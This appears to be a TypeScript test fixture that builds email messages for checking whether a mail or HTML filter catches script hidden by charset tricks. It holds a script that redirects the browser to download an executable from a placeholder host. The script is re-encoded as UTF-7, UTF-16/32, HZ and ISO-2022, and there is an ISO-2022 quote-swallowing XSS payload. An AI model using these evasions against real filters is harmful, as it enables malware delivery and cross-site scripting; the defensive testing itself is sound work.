/** Pages whose script only shows in one of several character sets, and texts that are another one under another label. */
import { type Forms, payload, plainPart, raw, TOP, type Encoding } from "./letter.ts"

const PAGE = "<html><body><script>location='http://example.org/a.exe'</script></body></html>"
const LATIN = Buffer.from(PAGE)
const LE = Buffer.from(PAGE, "utf16le")
const BE = Buffer.from(LE).swap16()
const utf7 = Buffer.from(
  PAGE.replace(/[<>']/g, (char) => `+${Buffer.from(`\0${char}`).toString("base64").replace(/=+$/, "")}-`),
)
const wide = Buffer.concat(Array.from(PAGE, (char) => Buffer.from([char.charCodeAt(0), 0, 0, 0])))
const mark = (...octets: readonly number[]): Buffer => Buffer.from(octets)

/** Octets, and the label that stands beside them. */
const PAGES: Readonly<Record<string, readonly [bytes: Buffer, charset: string | null]>> = {
  "UTF-7": [utf7, "utf-7"],
  "UTF-7, by its other name": [utf7, "unicode-1-1-utf-7"],
  "UTF-7 without a label": [utf7, null],
  "UTF-7 under an unknown label": [utf7, "x-foo"],
  "UTF-7 said to be ASCII": [utf7, "us-ascii"],
  "UTF-7 that the page tells of": [Buffer.concat([Buffer.from("<meta charset=utf-7>"), utf7]), "iso-8859-1"],
  "UTF-16 without its mark or a label": [LE, null],
  "UTF-16 the other way round": [BE, null],
  "UTF-16 said to be UTF-8": [LE, "utf-8"],
  "UTF-16 whose mark is denied": [Buffer.concat([mark(0xff, 0xfe), LE]), "iso-8859-1"],
  "ASCII said to be UTF-16": [LATIN, "utf-16"],
  "ASCII said to be UTF-16 the other way round": [LATIN, "utf-16be"],
  "ASCII said to be UTF-32": [LATIN, "utf-32"],
  "UTF-32": [wide, "utf-32"],
  "UTF-32 with its mark": [Buffer.concat([mark(0xff, 0xfe, 0, 0), wide]), "us-ascii"],
  "NULs between": [Buffer.from(PAGE.replaceAll("script", "s\0cript")), "utf-8"],
  "HZ around": [Buffer.from(`~{${PAGE}~}`), "hz-gb-2312"],
  "HZ without a label": [Buffer.from(`~{${PAGE}~}`), null],
  "ISO-2022 around": [Buffer.from(`\x1b$B${PAGE}\x1b(B`, "latin1"), "iso-2022-jp"],
  "ISO-2022 around, without a label": [Buffer.from(`\x1b$B${PAGE}\x1b(B`, "latin1"), null],
  "ISO-2022-KR": [Buffer.from(`\x1b$)C\x0e${PAGE}\x0f`, "latin1"), "iso-2022-kr"],
  "ISO-2022-CN": [Buffer.from(`\x1b$)A\x0e${PAGE}\x0f`, "latin1"), "iso-2022-cn"],
  "ISO-2022 that takes a quotation mark away": [
    Buffer.from('<img alt="\x1b$B" onerror="alert(1)" x="\x1b(B">', "latin1"),
    "iso-2022-jp",
  ],
}

function page(bytes: Buffer, charset: string | null, encoding: Encoding): Buffer {
  const type = `Content-Type: text/html${charset === null ? "" : `; charset=${charset}`}`
  return raw([
    ...TOP,
    "MIME-Version: 1.0",
    type,
    `Content-Transfer-Encoding: ${encoding}`,
    "",
    payload(encoding, bytes).text,
  ])
}

function attached(bytes: Buffer, charset: string | null, encoding: Encoding): Buffer {
  const type = `Content-Type: text/html; name=a.html${charset === null ? "" : `; charset=${charset}`}`
  return plainPart(
    [type, "Content-Disposition: attachment; filename=a.html", `Content-Transfer-Encoding: ${encoding}`],
    payload(encoding, bytes).text,
  )
}

const entries = Object.entries(PAGES)
export const CHARSETS: Forms = {
  ...Object.fromEntries(
    entries.map(([id, [bytes, charset]]) => [id, ({ encoding }) => page(bytes, charset, encoding)]),
  ),
  ...Object.fromEntries(
    entries.map(([id, [bytes, charset]]) => [`${id}, as a file`, ({ encoding }) => attached(bytes, charset, encoding)]),
  ),
}
